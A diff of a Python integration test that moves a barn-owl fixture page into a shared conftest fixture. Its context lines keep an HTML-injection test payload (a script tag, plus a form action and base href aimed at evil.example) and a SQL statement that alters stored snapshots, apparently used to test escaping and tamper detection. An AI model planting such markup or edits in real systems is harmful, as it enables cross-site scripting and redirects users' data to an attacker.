@@ -12,16 +12,9 @@ from app.core import db, ids
 from app.core.ids import Noun
 from app.domains.records.page_jobs.verification import quote_check, verifications
 from tests import builders
+from tests.integration.searches.conftest import OWLS
 from tests.visiting import Visitor
 
-PAGE = """# Barn owls
-
-The barn owl hunts at night. It weighs between 250 and 480 grams.
-
-## Breeding
-
-A clutch holds four to seven eggs, which hatch after 30 days. Both parents feed the young.
-"""
 QUESTION = "How many eggs does a barn owl lay in a clutch?"
 HOSTILE = (
     '</pre><script>alert(1)</script><form action="//evil.example"><base href="//evil.example">'
@@ -34,7 +27,7 @@ TAMPER = "update snapshots set text = replace(text, %(old)s, %(new)s)"
 
 @pytest.fixture(scope="module", autouse=True)
 def owls(site: Flask) -> None:
-    builders.indexed_page("https://birds.example.org/owls", PAGE)
+    builders.indexed_page("https://birds.example.org/owls", OWLS)
 
 
 def asked(site: Flask, browser: Visitor, question: str) -> str:
